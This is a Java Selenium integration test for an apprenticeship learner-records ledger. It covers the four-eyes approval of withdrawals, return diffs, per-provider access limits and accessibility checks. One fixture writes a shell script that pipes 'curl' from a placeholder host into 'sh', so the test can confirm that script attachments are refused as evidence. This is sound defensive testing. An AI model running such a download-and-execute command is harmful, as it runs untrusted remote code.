package uk.ilrledger.app.screens;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.Select;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.TestPropertySource;
import uk.ilrledger.app.Api;
import uk.ilrledger.app.IntegrationTest;
import uk.ilrledger.testsupport.SampleLearners;

/**
 * The screens in headless Chromium against the running service: a withdrawal raised with evidence by
 * one person and approved by another shows in the learner's timeline and in the R-return and its
 * diff; the raiser never gets an approve button for their own change; a user granted one UKPRN never
 * sees another provider's learners. axe-core checks every screen; each screen's picture is saved to
 * docs/screens.
 */
@IntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestPropertySource(properties = {
        "ilr-ledger.users[0].name=admin", "ilr-ledger.users[0].password={noop}" + IntegrationTest.PASSWORD,
        "ilr-ledger.users[0].roles=ADMIN", "ilr-ledger.users[0].ukprns=*",
        "ilr-ledger.users[1].name=raiser", "ilr-ledger.users[1].password={noop}" + IntegrationTest.PASSWORD,
        "ilr-ledger.users[1].roles=RAISER", "ilr-ledger.users[1].ukprns=*",
        "ilr-ledger.users[2].name=approver", "ilr-ledger.users[2].password={noop}" + IntegrationTest.PASSWORD,
        "ilr-ledger.users[2].roles=RAISER,APPROVER", "ilr-ledger.users[2].ukprns=*",
        "ilr-ledger.users[4].name=approver2", "ilr-ledger.users[4].password={noop}" + IntegrationTest.PASSWORD,
        "ilr-ledger.users[4].roles=RAISER,APPROVER", "ilr-ledger.users[4].ukprns=*",
        "ilr-ledger.users[3].name=one-provider", "ilr-ledger.users[3].password={noop}" + IntegrationTest.PASSWORD,
        "ilr-ledger.users[3].roles=RAISER,APPROVER,AUDITOR", "ilr-ledger.users[3].ukprns=" + SampleLearners.UKPRN})
// Its own application context (its users): closed after the class, so its processors stop claiming the
// shared store's tokens and stop polling it while the other tests run.
@DirtiesContext
class ScreensBrowserTest {

    static final int OTHER_UKPRN = 10000002;
    static final LocalDate START = LocalDate.of(2025, 9, 1);
    static final LocalDate LAST_DAY = LocalDate.of(2026, 2, 27);

    @LocalServerPort
    int port;
    @Autowired
    TestRestTemplate rest;
    @Autowired
    ObjectMapper json;

    Api api;
    Browser browser;

    @BeforeAll
    void startBrowser() {
        browser = new Browser(port);
    }

    @AfterAll
    void stopBrowser() throws Exception {
        browser.close();
    }

    @BeforeEach
    void setUp() {
        api = new Api(rest, json);
        browser.open("/sign-in");
        if (!browser.all("form.sign-out").isEmpty()) {
            browser.signOut();
        }
    }

    @Test
    void aWithdrawalRaisedWithEvidenceAndApprovedByAnotherPersonShowsInTheTimelineTheReturnAndItsDiff(
            @TempDir Path files) throws Exception {
        String ref = register(SampleLearners.UKPRN, "S");
        // The R07 return as submitted before the withdrawal: the diff against it must show the withdrawal.
        String r07 = "/api/providers/" + SampleLearners.UKPRN + "/returns/2526/R07";
        Api.Download exported = api.download("admin", r07 + "/ilr.xml");
        assertThat(exported.status()).isEqualTo(200);
        Api.Answer submitted = api.post("admin", r07 + "/submissions", Map.of("fileName", exported.fileName()));
        assertThat(submitted.status()).as(submitted.body().toString()).isEqualTo(201);
        String submissionId = submitted.text("/submissionId");
        Path evidence = Files.writeString(files.resolve("withdrawal-email.eml"),
                "From: learner@example.invalid\nTo: apprenticeships@example.invalid\nSubject: Leaving the programme\n"
                        + "Date: Fri, 27 Feb 2026 17:02:00 +0000\n\nI left the programme on 27 February.\n",
                StandardCharsets.UTF_8);
        Path script = Files.writeString(files.resolve("withdrawal-note.txt"),
                "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n", StandardCharsets.UTF_8);

        browser.open("/");
        assertThat(browser.path()).startsWith("/sign-in");
        browser.assertAccessible("sign in");
        browser.screenshot("sign-in");
        browser.signIn("raiser", IntegrationTest.PASSWORD);
        browser.assertAccessible("home");
        browser.screenshot("home");

        browser.clickLink("Raise a change");
        browser.assertAccessible("choose a change");
        new Select(browser.find("#ukprn")).selectByValue(Integer.toString(SampleLearners.UKPRN));
        browser.find("#learnRefNumber").sendKeys(ref);
        new Select(browser.find("#type")).selectByValue("WITHDRAWAL");
        browser.screenshot("choose-change");
        browser.find("main button[type=submit]").click();

        browser.waitFor(By.id("change-form"));
        assertThat(browser.all("#change-form input[name=learnActEndDate], #change-form input[name=withdrawReason]"))
                .as("a withdrawal asks for its own fields").hasSize(2);
        assertThat(browser.all("#change-form input[name=tnp1]")).as("and no other type's").isEmpty();
        assertThat(browser.all("#change-form input[name=aims]")).as("the learner's current aims to pick from").hasSize(2);

        browser.type("#effectiveDate", "2025-08-15");
        browser.type("#values-learnActEndDate", "2025-08-15");
        browser.type("#values-withdrawReason", "97");
        assertThat(browser.waitForTextContaining("#rule-checks", "LearnActEndDate_01"))
                .as("a last day before the start is refused as it is typed, naming the field")
                .contains("values.learnActEndDate");

        browser.type("#effectiveDate", LAST_DAY.toString());
        browser.type("#values-learnActEndDate", LAST_DAY.toString());
        browser.type("#reason", "Learner e-mailed to say they have left the programme");
        browser.waitForTextContaining("#rule-checks", "meets every rule");
        browser.attach("#file", script);
        browser.find("#change-form button[type=submit]").click();
        assertThat(browser.waitFor(By.id("problem")).getText())
                .as("a script attached as evidence is refused on the form, as the API refuses it")
                .contains("must be a PDF, PNG, JPEG, text, e-mail or Office document").contains("Field: evidence");
        assertThat(browser.find("#reason").getAttribute("value")).as("what was typed is kept")
                .isEqualTo("Learner e-mailed to say they have left the programme");
        browser.attach("#file", evidence);
        browser.assertAccessible("raise a change");
        browser.screenshot("raise-change");
        browser.find("#change-form button[type=submit]").click();

        assertThat(browser.waitFor(By.id("status")).getText()).isEqualTo("RAISED");
        String changePath = browser.path().replaceAll("\\?.*", "");
        assertThat(browser.all("#approve")).as("the raiser is offered no approve button").isEmpty();
        assertThat(browser.text("#four-eyes")).contains("someone else must decide it");
        browser.signOut();

        browser.signIn("approver", IntegrationTest.PASSWORD);
        browser.find("a[href='" + changePath + "']").click();
        browser.waitFor(By.id("approve"));
        assertThat(browser.frameText(".evidence iframe")).as("the e-mail is shown in the page")
                .contains("I left the programme on 27 February.");
        assertThat(browser.text("main table")).contains("learnActEndDate").contains("2026-02-27");
        browser.assertAccessible("decide a change");
        browser.screenshot("decide-change");
        browser.find("#comment").sendKeys("E-mail checked against the learner file");
        browser.find("#approve").click();
        browser.waitForText("#status", "APPROVED");

        browser.clickLink(SampleLearners.UKPRN + " / " + ref);
        WebElement timeline = browser.waitFor(By.id("timeline"));
        assertThat(timeline.getText()).contains("WITHDRAWAL – APPROVED").contains("Raised by raiser")
                .contains("approved by approver").contains("Learner e-mailed to say they have left the programme")
                .contains("compStatus: 1 → 3");
        assertThat(browser.text("#chain")).startsWith("Intact");
        browser.assertAccessible("learner");
        browser.screenshot("learner");

        browser.type("#effectiveOn", "2026-01-31");
        browser.find("form.filters button[type=submit]").click();
        browser.waitForUrlContaining("effectiveOn=2026-01-31");
        assertThat(browser.text("main table tbody tr:first-child td:nth-child(6)"))
                .as("in effect on 31 January the learner had not yet left").isEqualTo("1");

        browser.clickLink("Returns");
        new Select(browser.find("#ukprn")).selectByValue(Integer.toString(SampleLearners.UKPRN));
        new Select(browser.find("#year")).selectByValue("2526");
        new Select(browser.find("#period")).selectByValue("R07");
        browser.assertAccessible("choose a return");
        browser.find("main button[type=submit]").click();
        browser.waitFor(By.id("learners"));
        List<WebElement> aims = browser.all("#learners tbody tr").stream()
                .filter(row -> row.getText().startsWith(ref + " ")).toList();
        // The return shows 50 learners a page, in LearnRefNumber order: follow the pager to the learner's page.
        for (int page = 2; aims.isEmpty() && !browser.all("nav.pager a").stream()
                .filter(link -> link.getText().equals("Next page")).toList().isEmpty(); page++) {
            browser.clickLink("Next page");
            browser.waitForUrlContaining("page=" + page);
            aims = browser.all("#learners tbody tr").stream().filter(row -> row.getText().startsWith(ref + " ")).toList();
        }
        assertThat(aims).as("the R07 return has the learner's two aims").hasSize(2);
        assertThat(aims).as("both withdrawn (CompStatus 3), each with why it is in the return").allSatisfy(row -> {
            assertThat(row.findElement(By.cssSelector("td:nth-child(5)")).getText()).isEqualTo("3");
            assertThat(row.findElement(By.cssSelector("td:nth-child(6)")).getText()).isNotBlank();
        });
        new Select(browser.find("#against")).selectByValue("R06");
        browser.find("#against").submit();
        browser.waitForUrlContaining("against=R06");
        browser.waitFor(By.id("diff"));
        assertThat(diffRowsOf(ref)).as("the diff from R06 shows the withdrawal and the events behind it")
                .anySatisfy(row -> assertThat(row).contains("compStatus").contains("LearnerWithdrawn"));

        new Select(browser.find("#against")).selectByValue(submissionId);
        browser.find("#against").submit();
        browser.waitForUrlContaining("against=" + submissionId);
        browser.waitFor(By.id("diff"));
        assertThat(diffRowsOf(ref)).as("the diff from the R07 submitted before the withdrawal shows it")
                .anySatisfy(row -> assertThat(row).contains("compStatus").contains("1").contains("3")
                        .contains("LearnerWithdrawn"));
        browser.assertAccessible("return");
        browser.screenshot("return");
        String changeId = changePath.substring("/changes/".length());
        WebElement cause = browser.all("#diff tbody tr").stream().filter(row -> row.getText().contains(ref)
                        && row.getText().contains("compStatus"))
                .findFirst().orElseThrow().findElement(By.partialLinkText("LearnerWithdrawn"));
        assertThat(cause.getAttribute("href")).as("each difference links to the history entry behind it")
                .endsWith("/providers/" + SampleLearners.UKPRN + "/learners/" + ref + "#change-" + changeId);
        cause.click();
        assertThat(browser.waitFor(By.id("change-" + changeId)).getText()).contains("WITHDRAWAL – APPROVED")
                .contains("compStatus: 1 → 3");

        browser.clickLink("Tracker queue");
        browser.find("#learner").sendKeys(ref);
        browser.find("form.filters button[type=submit]").click();
        browser.waitForUrlContaining("learner=" + ref);
        assertThat(rowsOf("main table", ref)).hasSize(1).allSatisfy(row -> assertThat(row).contains("APPROVED"));
        browser.assertAccessible("tracker queue");
        browser.screenshot("queue");

        browser.clickLink("Caseload");
        browser.type("#year", "2526");
        browser.find("form.filters button[type=submit]").click();
        browser.waitForText("h1", "Caseload 2526");
        assertThat(Integer.parseInt(browser.text("#caseload tbody tr:nth-child(7) td:nth-child(4)")))
                .as("February 2026 counts the learner withdrawn that month").isPositive();
        assertThat(browser.all("svg rect")).as("the chart has bars").isNotEmpty();
        browser.assertAccessible("caseload");
        browser.screenshot("caseload");

        browser.clickLink("Learners");
        browser.find("#q").sendKeys(ref);
        browser.find("form[role=search] button").click();
        browser.waitForUrlContaining("q=" + ref);
        assertThat(rowsOf("main table", ref)).hasSize(1);
        browser.assertAccessible("learners");
        browser.screenshot("learners");
    }

    @Test
    void anApproverWhoRaisedAChangeIsToldWhyTheyCannotDecideItAndAnotherApproverRejectsIt() throws Exception {
        String ref = register(SampleLearners.UKPRN, "F");
        String changeId = raiseWithdrawal("approver", SampleLearners.UKPRN, ref);

        browser.signIn("approver", IntegrationTest.PASSWORD);
        browser.open("/changes/" + changeId);
        assertThat(browser.waitFor(By.id("four-eyes")).getText()).contains("someone else must decide it");
        assertThat(browser.all("#approve, #reject")).as("no decision buttons on one's own change").isEmpty();
        browser.signOut();

        browser.signIn("approver2", IntegrationTest.PASSWORD);
        browser.open("/changes/" + changeId);
        browser.find("#reject").click();
        assertThat(browser.waitFor(By.cssSelector(".error")).getText()).as("a rejection needs a reason")
                .contains("reason");
        assertThat(browser.text("#status")).isEqualTo("RAISED");
        browser.find("#comment").sendKeys("Raised against the wrong learner");
        browser.find("#reject").click();
        browser.waitForText("#status", "REJECTED");
        assertThat(browser.text("main")).contains("Raised against the wrong learner");
    }

    @Test
    void aUserGrantedOneProviderNeverSeesAnotherProvidersLearners() throws Exception {
        String prefix = "G" + UUID.randomUUID().toString().substring(0, 4).toUpperCase();
        String ours = register(SampleLearners.UKPRN, prefix);
        String theirs = register(OTHER_UKPRN, prefix);
        String theirChange = raiseWithdrawal("raiser", OTHER_UKPRN, theirs);
        raiseWithdrawal("raiser", SampleLearners.UKPRN, ours);

        // The search is a projection too: a user granted every provider sees both learners once it has them,
        // so a search that then leaves one out leaves it out for the grant, not for lag.
        browser.signIn("admin", IntegrationTest.PASSWORD);
        await().atMost(Duration.ofSeconds(30)).until(() -> {
            browser.open("/learners?q=" + prefix);
            String found = browser.text("main");
            return found.contains(ours) && found.contains(theirs);
        });
        browser.signOut();

        browser.signIn("one-provider", IntegrationTest.PASSWORD);
        browser.open("/learners?q=" + prefix);
        assertThat(browser.text("main")).contains(ours).doesNotContain(theirs);

        // The queue is a projection: the change just raised is on it once its processor has handled it.
        await().atMost(Duration.ofSeconds(30)).until(() -> {
            browser.open("/queue?learner=" + prefix);
            return browser.text("main table").contains(ours);
        });
        assertThat(browser.text("main table")).contains(ours).doesNotContain(theirs);

        browser.open("/providers/" + OTHER_UKPRN + "/learners/" + theirs);
        assertThat(browser.text("h1")).isEqualTo("Not allowed");
        assertThat(browser.text("main")).doesNotContain(theirs);

        browser.open("/changes/" + theirChange);
        assertThat(browser.text("h1")).isEqualTo("Not found");

        browser.open("/providers/" + OTHER_UKPRN + "/returns/2526/R07");
        assertThat(browser.text("h1")).isEqualTo("Not allowed");
    }

    private String register(int ukprn, String prefix) {
        String ref = prefix + UUID.randomUUID().toString().replace("-", "").substring(0, 11 - prefix.length()).toUpperCase();
        Api.Answer registered = api.post("admin", "/api/providers/" + ukprn + "/learners", SampleLearners.apprentice(ref, START));
        assertThat(registered.status()).as(registered.body().toString()).isEqualTo(201);
        return ref;
    }

    private String raiseWithdrawal(String user, int ukprn, String ref) {
        Api.Answer uploaded = api.upload(user, "email.txt", ("Withdrawal of " + ref).getBytes(StandardCharsets.UTF_8));
        Api.Answer raised = api.post(user, "/api/providers/" + ukprn + "/learners/" + ref + "/changes", Map.of(
                "type", "WITHDRAWAL", "effectiveDate", LAST_DAY.toString(),
                "values", Map.of("learnActEndDate", LAST_DAY.toString(), "withdrawReason", 97),
                "reason", "Learner left", "evidence", List.of(uploaded.text("/evidenceId"))));
        assertThat(raised.status()).as(raised.body().toString()).isEqualTo(201);
        return raised.text("/changeId");
    }

    /** The text of each row of a table that mentions {@code text}. */
    /** The diff's rows of the learner, following the diff's pager (20 learners a page) to the learner's page. */
    private List<String> diffRowsOf(String ref) {
        List<String> rows = rowsOf("#diff", ref);
        for (int page = 2; rows.isEmpty() && browser.all("nav.pager a").stream()
                .anyMatch(link -> link.getText().equals("Next differences")); page++) {
            browser.clickLink("Next differences");
            browser.waitForUrlContaining("diffPage=" + page);
            rows = rowsOf("#diff", ref);
        }
        return rows;
    }

    private List<String> rowsOf(String table, String text) {
        return browser.all(table + " tbody tr").stream().map(WebElement::getText).filter(row -> row.contains(text)).toList();
    }
}
